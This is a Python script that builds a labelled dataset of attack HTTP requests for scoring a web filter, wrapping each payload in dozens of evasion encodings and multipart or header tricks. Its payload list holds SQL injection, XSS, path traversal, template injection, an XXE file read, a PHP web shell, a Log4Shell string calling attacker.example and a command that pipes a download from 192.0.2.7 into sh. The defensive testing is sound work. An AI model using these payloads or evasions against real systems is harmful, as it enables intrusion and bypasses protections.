"""generate.py FOLDER: attacks of our own, each in every disguise that applications undo, as a labelled set.

Whoever reads a request decodes, unpacks and takes apart; an engine that does less of it lets through what it would know. The
category of a request is its disguise, so that the scorecard says which one is not seen through. Those that nobody decodes
(bare hexadecimal digits) or that no server of ours lets in (an attack for a Host) are left out.
"""

import base64
import gzip
import html
import json
import pathlib
import sys
import urllib.parse
import zlib

ATTACKS = [
    "1' union select password from users-- ", "1' or 1=1-- ", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    ";cat /etc/passwd", "$(curl http://192.0.2.7/x|sh)", "../../../../etc/passwd", "{{config.__class__.__init__.__globals__}}",
    "${jndi:ldap://attacker.example/a}", "<?php system($_GET[1]);?>", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
]
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
JSON, FORM, XML = "application/json", "application/x-www-form-urlencoded", "text/xml"
MULTIPART = "multipart/form-data; boundary=b"


def quoted(text: str | bytes) -> str:
    return urllib.parse.quote(text, safe="")


def base64_of(data: bytes) -> str:
    return base64.b64encode(data).decode()


def escaped(data: bytes, form: str) -> str:
    """Each byte written in the same way, whether it needs to be or not."""
    return "".join(form % byte for byte in data)


def overlong(data: bytes) -> str:
    """UTF-8 with a byte more than it needs."""
    return "".join("%%%02x%%%02x" % (0xC0 | byte >> 6, 0x80 | byte & 0x3F) for byte in data)


def queries(attack: str) -> dict[str, str]:
    """What may stand behind `?`."""
    data, plain = attack.encode(), quoted(attack)
    wide = "".join(chr(0xFEE0 + byte) if 0x21 <= byte <= 0x7E else chr(byte) for byte in data)
    return {
        "query": f"q={plain}", "every-byte": "q=" + escaped(data, "%%%02x"), "twice": f"q={quoted(plain)}",
        "three-times": f"q={quoted(quoted(plain))}", "percent-u": "q=" + escaped(data, "%%u%04x"), "overlong": "q=" + overlong(data),
        "entities": "q=" + quoted(escaped(data, "&#%d;")), "hex-entities": "q=" + quoted(escaped(data, "&#x%x;")),
        "base64": "q=" + quoted(base64_of(data)), "base64-url": "q=" + base64.urlsafe_b64encode(data).decode(),
        "full-width": "q=" + quoted(wide), "name": f"{plain}=1", "semicolon": f"a=1;q={plain}", "null-first": f"q=%00{plain}",
        "nulls": "q=" + "%00".join(quoted(each) for each in attack), "tabs": "q=" + plain.replace("%20", "%09"),
        "plus": "q=" + plain.replace("%20", "+"), "broken-escape": f"q=%{plain}",
    }


def bodies(attack: str) -> dict[str, tuple[str | None, bytes | str, dict[str, str]]]:
    """Type, content and further fields."""
    data, plain, written = attack.encode(), quoted(attack), json.dumps(attack)
    document, form = json.dumps({"q": attack}), f"q={plain}"
    markup = html.escape(attack)
    found = {
        "form": (FORM, form), "json": (JSON, document), "json-escapes": (JSON, '{"q":"%s"}' % escaped(data, "\\u%04x")),
        "json-in-json": (JSON, json.dumps({"a": json.dumps({"b": attack})})), "json-name": (JSON, json.dumps({attack: 1})),
        "json-base64": (JSON, json.dumps({"q": base64_of(data)})), "json-nested": (JSON, json.dumps([[[[attack]]]])),
        "json-comment": (JSON, '{"x":1/*c*/,"q":%s}' % written), "json-single-quotes": (JSON, "{'q':%s}" % written),
        "json-twice": (JSON, '{"q":"a","q":%s}' % written), "json-trailing": (JSON, '{"q":"a"}{"q":%s}' % written),
        "json-mark": (JSON, b"\xef\xbb\xbf" + document.encode()), "json-lines": ("application/x-ndjson", '{"a":1}\n' + document),
        "json-by-another-name": ("application/vnd.api+json", document), "json-blank": ("application/json ;charset=utf-8", document),
        "json-as-text": ("text/plain", document), "json-as-bytes": ("application/octet-stream", document),
        "json-as-form": (FORM, document), "json-as-video": ("video/mp4", document), "json-deep": (JSON, '{"a":%s,"q":%s}' % ("[" * 90 + "]" * 90, written)),
        "json-not-a-number": (JSON, '{"a":NaN,"q":%s}' % written), "json-guarded": (JSON, ")]}',\n" + document), "json-called": (JSON, f"call({document})"),
        "yaml": ("application/yaml", f"q: {written}"), "csv": ("text/csv", 'a,b\n1,"%s"\n' % attack.replace('"', '""')), "form-as-json": (JSON, form), "no-type": (None, form),
        "graphql-variable": (JSON, json.dumps({"query": "query($a:String){user(name:$a){id}}", "variables": {"a": attack}})),
        "graphql": ("application/graphql", "{user(name:%s){id}}" % written),
        "protobuf": ("application/x-protobuf", b"\x0a" + bytes([len(data)]) + data),
        "xml": (XML, f"<r><a>{markup}</a></r>"), "xml-attribute": (XML, f'<r a="{markup}"/>'), "xml-data": (XML, f"<r><![CDATA[{attack}]]></r>"),
        "xml-entities": (XML, "<r>" + escaped(data, "&#x%x;") + "</r>"),
        "utf-7": (FORM + "; charset=utf-7", "q=" + quoted(attack.encode("utf-7"))), "utf-16": ("text/plain; charset=utf-16", attack.encode("utf-16")),
        "utf-16le": ("application/json; charset=utf-16le", document.encode("utf-16le")),
        "utf-32": ("application/json; charset=utf-32", document.encode("utf-32")),
        "ebcdic": (FORM + "; charset=ibm037", f"q={attack}".encode("cp037")),
        "ebcdic-escapes": (FORM + "; charset=ibm037", "=".join(escaped(each.encode("cp037"), "%%%02x") for each in ("q", attack))),
        "behind-9-kilobytes": (FORM, "x=" + "a" * 9_000 + "&" + form), "behind-400-pairs": (FORM, "&".join(f"a{n}={n}" for n in range(400)) + "&" + form),
        "behind-100-kilobytes": (FORM, "x=" + "ab1+" * 25_000 + "&" + form),
    }
    packed = {
        "gzip": (JSON, gzip.compress(document.encode()), {"Content-Encoding": "gzip"}),
        "gzip-twice": (JSON, gzip.compress(gzip.compress(document.encode())), {"Content-Encoding": "gzip, gzip"}),
        "gzip-and-another": (JSON, gzip.compress(document.encode()), {"Content-Encoding": "gzip", "content-encoding": "br"}),
        "gzip-by-its-old-name": (JSON, gzip.compress(document.encode()), {"Content-Encoding": "x-gzip"}),
        "not-gzip": (JSON, document, {"Content-Encoding": "gzip"}), "unknown-encoding": (JSON, document, {"Content-Encoding": "zstd"}),
        "deflate": (FORM, zlib.compress(form.encode()), {"Content-Encoding": "deflate"}),
        "bare-deflate": (JSON, zlib.compress(document.encode())[2:-4], {"Content-Encoding": "deflate"}),
        "two-types": (JSON, document, {"content-type": "image/png"}), "two-types-last": ("image/png", document, {"content-type": JSON}),
    }
    return {name: (*each, {}) for name, each in (found | multiparts(attack)).items()} | packed


def multiparts(attack: str) -> dict[str, tuple[str, str]]:
    named = 'Content-Disposition: form-data; name="q"'
    clean = attack.replace('"', "%22")

    def body(head: str, content: str = attack, line: str = "\r\n", boundary: str = "b") -> str:
        return line.join([f"--{boundary}", head, "", content, f"--{boundary}--", ""])

    def by(parameters: str, boundary: str = "b") -> tuple[str, str]:
        return f"multipart/form-data{parameters}", body(named, boundary=boundary)

    return {
        "multipart": (MULTIPART, body(named)), "multipart-unquoted": (MULTIPART, body("Content-Disposition: form-data; name=q")),
        "multipart-case": ('Multipart/Form-Data; BOUNDARY="b"', body('content-disposition: FORM-DATA; NAME="q"')),
        "multipart-name": (MULTIPART, body(f'Content-Disposition: form-data; name="{clean}"', "1")),
        "multipart-file-name": (MULTIPART, body(f'{named}; filename="{clean}"', "1")),
        "multipart-base64": (MULTIPART, body(f"{named}\r\nContent-Transfer-Encoding: base64", base64_of(attack.encode()))),
        "multipart-two-dispositions": (MULTIPART, body(f'Content-Disposition: form-data; name="x"; filename="y"\r\n{named}')),
        "multipart-hidden-file": (MULTIPART, body(named + '; x="; filename=a"')), "multipart-other-field": (MULTIPART, body(named + "\r\nX-Note: ; filename=a")),
        "multipart-folded": (MULTIPART, body(named + ';\r\n filename="a"')), "multipart-line-feeds": (MULTIPART, body(named, line="\n")),
        "multipart-preamble": (MULTIPART, "--x\r\n" + body(named)), "multipart-endless": (MULTIPART, f"--b\r\n{named}\r\n\r\n{attack}"),
        "multipart-two-boundaries": by("; boundary=a; boundary=b"), "multipart-charset-boundary": by("; boundary*=utf-8''b"),
        "multipart-comma": by("; boundary=b,c"), "multipart-blank": by("; boundary=b c"), "multipart-escape": by(r'; boundary="b\"c"', 'b"c'),
        "multipart-long": by("; boundary=" + "b" * 100, "b" * 100), "multipart-no-boundary": by(""), "multipart-comma-type": by(", boundary=b"),
        "multipart-no-file-name": (MULTIPART, body(named + '; filename=""')), "multipart-blank-name": (MULTIPART, body('Content-Disposition : form-data; name="q"; filename="a"')),
        "multipart-json": (MULTIPART, body(named + '; filename="blob"\r\nContent-Type: application/json', json.dumps({"q": attack}))),
        "multipart-carriage-returns": (MULTIPART, body(named, line="\r")), "multipart-epilogue": (MULTIPART, body(named, "1") + body(named)),
        "multipart-in-a-file": (MULTIPART, body(named + '; filename="a"', "x" + body(named))),
        "multipart-mixed": ("multipart/mixed; boundary=b", body(named)), "multipart-related": ("multipart/related; boundary=b", body("Content-Type: text/plain")),
    }


def fields(attack: str) -> dict[str, tuple[str, str]]:
    data = attack.encode()
    return {
        "cookie": ("Cookie", f"a=b; x={quoted(attack)}"), "cookie-base64": ("Cookie", f"a=b; x={base64_of(data)}"), "agent": ("User-Agent", attack),
        "referer": ("Referer", f"https://x.example/?q={quoted(attack)}"), "field": ("X-Note", attack), "address": ("X-Forwarded-For", attack),
        "language": ("Accept-Language", attack), "credentials": ("Authorization", "Basic " + base64_of(b"admin:" + data)),
    }


def requests():
    def request(disguise: str, method: str, target: str, extra: dict[str, str] = {}, body: bytes | str = b""):
        known = {"Host": "shop.example", "User-Agent": BROWSER, "Accept": "*/*"} | extra
        data = body.encode() if isinstance(body, str) else body
        return {"label": "attack", "category": disguise, "method": method, "target": target, "headers": [list(each) for each in known.items()],
                "body_b64": base64.b64encode(data).decode(), "source": "disguises"}

    for attack in ATTACKS:
        for disguise, query in queries(attack).items():
            yield request(disguise, "GET", f"/search?{query}")
        for disguise, (kind, body, extra) in bodies(attack).items():
            yield request(disguise, "POST", "/items", ({"Content-Type": kind} if kind else {}) | extra, body)
        for disguise, field in fields(attack).items():
            yield request(disguise, "GET", "/", dict([field]))
        for disguise, path in {"path": f"/a/{quoted(attack)}", "path-parameter": f"/a;q={quoted(attack)}/b"}.items():
            yield request(disguise, "GET", path)
        for method in ("GET", "PUT", "PATCH", "DELETE"):
            yield request(f"body-of-{method.lower()}", method, "/items/7", {"Content-Type": JSON}, json.dumps({"q": attack}))


def main(folder: str) -> None:
    pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
    with gzip.open(pathlib.Path(folder) / "disguised.jsonl.gz", "wt", encoding="ascii") as file:
        for number, each in enumerate(requests()):
            file.write(json.dumps({"id": f"disguised-{number:06d}"} | each) + "\n")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: generate.py FOLDER")
    main(sys.argv[1])
